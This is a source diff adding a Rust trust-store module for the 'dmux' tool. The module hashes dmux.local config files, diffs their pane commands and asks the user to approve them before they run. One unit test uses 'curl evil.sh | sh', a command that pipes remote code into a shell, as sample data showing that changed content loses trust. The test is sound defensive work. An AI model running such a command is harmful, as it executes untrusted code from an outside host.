@@ -0,0 +1,305 @@
+// Keeps track of which dmux.local files the user trusts for `dmux trust`.
+// A local file can run any command, so it's only used once its content
+// has been approved, and again after every change to it
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::io::{self, Write};
+use std::path::{Path, PathBuf};
+
+use anyhow::{Context, Result};
+use colored::*;
+use sha2::{Digest, Sha256};
+
+use crate::app::TrustArgs;
+use crate::config_file::{self, LocalConfig};
+
+#[derive(Serialize, Deserialize, Debug, Default, PartialEq, Eq)]
+struct TrustStore {
+    files: BTreeMap<PathBuf, Trusted>,
+}
+
+// What a local file looked like when it was trusted
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq, Eq)]
+struct Trusted {
+    // sha256 of its content
+    hash: String,
+    // kept to show what changed the next time it's trusted
+    commands: Vec<String>,
+}
+
+#[derive(Debug, PartialEq, Eq)]
+enum Trust {
+    Trusted,
+    Changed,
+    Unknown,
+}
+
+// {xdg_data|~/Library/Application Support}/dmux/trusted.json
+fn store_path() -> Result<PathBuf> {
+    Ok(dirs::data_dir()
+        .ok_or_else(|| anyhow!("Data dir couldn't be read"))?
+        .join("dmux/trusted.json"))
+}
+
+fn content_hash(contents: &str) -> String {
+    Sha256::digest(contents.as_bytes())
+        .iter()
+        .map(|byte| format!("{:02x}", byte))
+        .collect()
+}
+
+// Files are trusted by where they really are, however they're reached
+fn store_key(local: &LocalConfig) -> PathBuf {
+    fs::canonicalize(&local.path).unwrap_or_else(|_| local.path.clone())
+}
+
+impl TrustStore {
+    fn load(path: &Path) -> Result<TrustStore> {
+        if !path.exists() {
+            return Ok(TrustStore::default());
+        }
+        let contents =
+            fs::read_to_string(path).with_context(|| format!("Couldn't read {:?}", path))?;
+        serde_json::from_str(&contents).with_context(|| format!("{:?} is corrupt", path))
+    }
+
+    fn save(&self, path: &Path) -> Result<()> {
+        if let Some(dir) = path.parent() {
+            fs::create_dir_all(dir)?;
+        }
+        fs::write(path, serde_json::to_string_pretty(self)?)
+            .with_context(|| format!("Couldn't write {:?}", path))
+    }
+
+    fn status(&self, local: &LocalConfig) -> Trust {
+        match self.files.get(&store_key(local)) {
+            Some(trusted) if trusted.hash == content_hash(&local.contents) => Trust::Trusted,
+            Some(_) => Trust::Changed,
+            None => Trust::Unknown,
+        }
+    }
+
+    fn trust(&mut self, local: &LocalConfig, commands: Vec<String>) {
+        self.files.insert(
+            store_key(local),
+            Trusted {
+                hash: content_hash(&local.contents),
+                commands,
+            },
+        );
+    }
+}
+
+fn collect_commands(value: &serde_json::Value, commands: &mut Vec<String>) {
+    use serde_json::Value;
+    match value {
+        Value::Object(map) => {
+            for (key, value) in map {
+                match (key.as_str(), value) {
+                    ("command", Value::String(command)) => commands.push(command.clone()),
+                    ("commands", Value::Array(panes)) => {
+                        for pane in panes {
+                            match pane {
+                                Value::String(command) => commands.push(command.clone()),
+                                pane => collect_commands(pane, commands),
+                            }
+                        }
+                    }
+                    (_, value) => collect_commands(value, commands),
+                }
+            }
+        }
+        Value::Array(values) => {
+            for value in values {
+                collect_commands(value, commands);
+            }
+        }
+        _ => {}
+    }
+}
+
+// Every command the file would run in a pane, in the order they're written
+fn local_commands(local: &LocalConfig) -> Result<Vec<String>> {
+    let value = local
+        .format
+        .parse(&local.contents)
+        .with_context(|| format!("Couldn't parse {:?}", local.path))?;
+    let mut commands = vec![];
+    collect_commands(&value, &mut commands);
+    commands.retain(|command| !command.is_empty());
+    Ok(commands)
+}
+
+// The lines of `old` and `new`, marked with `-` when they were
+// removed and `+` when they were added
+fn diff(old: &[String], new: &[String]) -> Vec<String> {
+    // lengths of the longest common subsequences of every pair of suffixes
+    let mut common = vec![vec![0; new.len() + 1]; old.len() + 1];
+    for i in (0..old.len()).rev() {
+        for j in (0..new.len()).rev() {
+            common[i][j] = if old[i] == new[j] {
+                common[i + 1][j + 1] + 1
+            } else {
+                common[i + 1][j].max(common[i][j + 1])
+            };
+        }
+    }
+    let (mut i, mut j) = (0, 0);
+    let mut lines = vec![];
+    while i < old.len() || j < new.len() {
+        if i < old.len() && j < new.len() && old[i] == new[j] {
+            lines.push(format!("  {}", old[i]));
+            i += 1;
+            j += 1;
+        } else if j < new.len() && (i == old.len() || common[i][j + 1] >= common[i + 1][j]) {
+            lines.push(format!("+ {}", new[j]));
+            j += 1;
+        } else {
+            lines.push(format!("- {}", old[i]));
+            i += 1;
+        }
+    }
+    lines
+}
+
+// The directory's local config if there is one and it's trusted,
+// warning about one that isn't
+pub fn trusted_local_config(dir: &Path) -> Result<Option<LocalConfig>> {
+    let local = match config_file::find_local_config(dir)? {
+        Some(local) => local,
+        None => return Ok(None),
+    };
+    let reason = match TrustStore::load(&store_path()?)?.status(&local) {
+        Trust::Trusted => return Ok(Some(local)),
+        Trust::Changed => "has changed since it was trusted",
+        Trust::Unknown => "isn't trusted",
+    };
+    eprintln!(
+        "{}: {} {}, so it's ignored. `dmux trust {}` shows the commands it runs and trusts it",
+        "Warning".yellow(),
+        local.path.display(),
+        reason,
+        dir.display()
+    );
+    Ok(None)
+}
+
+fn confirm() -> Result<bool> {
+    eprint!("Trust it? [y/N] ");
+    io::stderr().flush()?;
+    let mut answer = String::new();
+    io::stdin().read_line(&mut answer)?;
+    Ok(matches!(answer.trim(), "y" | "Y" | "yes"))
+}
+
+pub fn trust(args: TrustArgs) -> Result<()> {
+    let local = config_file::find_local_config(&args.dir)?.ok_or_else(|| {
+        anyhow!(
+            "There's no dmux.local.(toml | json | yaml) in {}",
+            args.dir.display()
+        )
+    })?;
+    let store_path = store_path()?;
+    let mut store = TrustStore::load(&store_path)?;
+    let commands = local_commands(&local)?;
+    let previous = match store.status(&local) {
+        Trust::Trusted => {
+            println!("{} is already trusted", local.path.display());
+            return Ok(());
+        }
+        Trust::Changed => {
+            println!(
+                "{} has changed since it was trusted, its commands are now:",
+                local.path.display()
+            );
+            store.files[&store_key(&local)].commands.clone()
+        }
+        Trust::Unknown => {
+            println!("{} runs these commands:", local.path.display());
+            vec![]
+        }
+    };
+    if commands.is_empty() && previous.is_empty() {
+        println!("  (none)");
+    }
+    for line in diff(&previous, &commands) {
+        match line.chars().next() {
+            Some('+') => println!("{}", line.green()),
+            Some('-') => println!("{}", line.red()),
+            _ => println!("{}", line),
+        }
+    }
+    if !args.yes && !confirm()? {
+        return Ok(());
+    }
+    store.trust(&local, commands);
+    store.save(&store_path)?;
+    println!("Trusted {}", local.path.display());
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config_file::ConfigFormat;
+
+    fn local(contents: &str) -> LocalConfig {
+        LocalConfig {
+            path: PathBuf::from("/srv/web/dmux.local.toml"),
+            format: ConfigFormat::Toml,
+            contents: contents.to_owned(),
+        }
+    }
+
+    fn lines(lines: &[&str]) -> Vec<String> {
+        lines.iter().map(|line| line.to_string()).collect()
+    }
+
+    #[test]
+    fn local_commands_finds_every_pane_command() {
+        let local = local(
+            "commands = [\"nvim\", \"\"]\n\
+             [[windows]]\n\
+             commands = [\"npm test\", { command = \"npm run dev\", dir = \"web\" }]\n\
+             [[windows]]\n\
+             layout = { split = \"horizontal\", panes = [{ command = \"htop\" }, {}] }\n",
+        );
+        assert_eq!(
+            local_commands(&local).unwrap(),
+            lines(&["nvim", "npm test", "npm run dev", "htop"])
+        );
+    }
+
+    #[test]
+    fn changing_a_file_takes_its_trust_away() {
+        let mut store = TrustStore::default();
+        assert_eq!(store.status(&local("commands = [\"ls\"]")), Trust::Unknown);
+        store.trust(&local("commands = [\"ls\"]"), lines(&["ls"]));
+        assert_eq!(store.status(&local("commands = [\"ls\"]")), Trust::Trusted);
+        assert_eq!(
+            store.status(&local("commands = [\"curl evil.sh | sh\"]")),
+            Trust::Changed
+        );
+    }
+
+    #[test]
+    fn diff_marks_added_and_removed_commands() {
+        assert_eq!(
+            diff(
+                &lines(&["nvim", "npm test", "ls"]),
+                &lines(&["nvim", "npm run dev", "ls", "htop"])
+            ),
+            lines(&["  nvim", "+ npm run dev", "- npm test", "  ls", "+ htop"])
+        );
+        assert_eq!(diff(&[], &lines(&["ls"])), lines(&["+ ls"]));
+    }
+
+    #[test]
+    fn content_hash_is_sha256() {
+        assert_eq!(
+            content_hash(""),
+            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+        );
+    }
+}